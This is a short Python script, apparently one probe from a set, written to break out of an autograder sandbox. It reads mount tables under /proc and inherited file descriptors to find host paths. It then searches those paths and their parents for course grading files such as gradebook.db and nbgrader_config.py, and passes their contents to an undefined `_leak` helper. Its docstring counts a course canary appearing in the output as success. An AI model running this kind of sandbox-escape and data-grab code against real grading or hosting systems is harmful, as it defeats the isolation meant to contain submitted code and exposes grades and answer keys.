"""Learn the host's layout from /proc/self/mountinfo, /proc/mounts and /proc/self/mountstats (bind
sources name the host paths), then try each revealed host path, and its parents, for the course
files; also list /proc/self/fd and /proc/self/map_files for inherited descriptors.

Got out: a canary from the course in the output.
"""
import os

seen = []
for meta in ("/proc/self/mountinfo", "/proc/mounts", "/proc/1/mountinfo"):
    try:
        text = open(meta).read()
        print(meta, text[:20000])
        for line in text.splitlines():
            parts = line.split()
            seen += [p for p in parts if p.startswith("/")]
    except OSError as exc:
        print(meta, exc)
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
        print("fd", fd, target)
        seen.append(target)
    except OSError:
        pass
cands = set()
for p in seen:
    while p and p != "/":
        cands.add(p)
        p = os.path.dirname(p)
for base in sorted(cands)[:3000]:
    for name in ("gradebook.db", "autograder/course/gradebook.db", "course/gradebook.db", "nbgrader_config.py"):
        path = os.path.join(base, name)
        try:
            _leak(open(path, "rb").read(3 << 20), path)
        except OSError:
            pass
